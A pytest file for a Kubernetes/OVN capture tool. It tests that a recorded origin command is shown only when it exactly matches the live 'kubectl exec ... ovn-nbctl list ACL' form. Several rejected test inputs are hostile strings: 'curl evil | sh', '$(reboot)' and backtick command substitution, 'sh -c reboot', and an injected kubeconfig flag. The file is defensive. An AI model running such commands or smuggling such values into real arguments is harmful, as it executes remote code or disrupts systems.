"""A command of a manifest is shown only if it is what the live way in would print."""

import shlex

import pytest

from collectors.dump.origin import told_origin
from ovntrace.model.capture import Capture, Target

ARGV = ("ovn-nbctl", "list", "ACL")
LIVE = "kubectl exec -n openshift-ovn-kubernetes ovnkube-node-7xk2p -c nbdb -- ovn-nbctl list ACL"


def _told(origin: str, argv: tuple[str, ...] = ARGV) -> str:
    return told_origin(Capture(Target(node="n"), "nb", b"", origin, argv=argv), "FILE")


@pytest.mark.parametrize("origin", [LIVE, "ovn-nbctl list ACL"])
def test_what_the_live_way_prints(origin: str) -> None:
    assert _told(origin) == origin


@pytest.mark.parametrize(
    "origin",
    [
        "",
        "some/file.json",
        "curl evil | sh; ovn-nbctl list ACL",
        "$(reboot) ovn-nbctl list ACL",
        "kubectl exec -n ns pod -c c -- sh -c reboot ovn-nbctl list ACL",
        "kubectl exec -n ns `reboot` -c c -- ovn-nbctl list ACL",
        "kubectl exec -n ns pod -c $(reboot) -- ovn-nbctl list ACL",
        "kubectl exec -n --kubeconfig=/x pod -c c -- ovn-nbctl list ACL",
        "kubectl delete -n ns pod -c c -- ovn-nbctl list ACL",
        "kubectl exec -n ns 'unclosed -c c -- ovn-nbctl list ACL",
        "kubectl exec -n ns pod\n -c c -- ovn-nbctl list ACL",
    ],
)
def test_anything_else_is_the_file(origin: str) -> None:
    assert _told(origin) == "FILE"


def test_names_are_quoted_as_the_live_way_quotes_them() -> None:
    words = ["kubectl", "exec", "-n", "n s", "$(x)", "-c", "c", "--"]
    origin = f"{shlex.join(words)} ovn-nbctl list ACL"
    assert _told(origin) == origin


def test_without_a_command_there_is_only_the_file() -> None:
    assert _told(LIVE, ()) == "FILE"
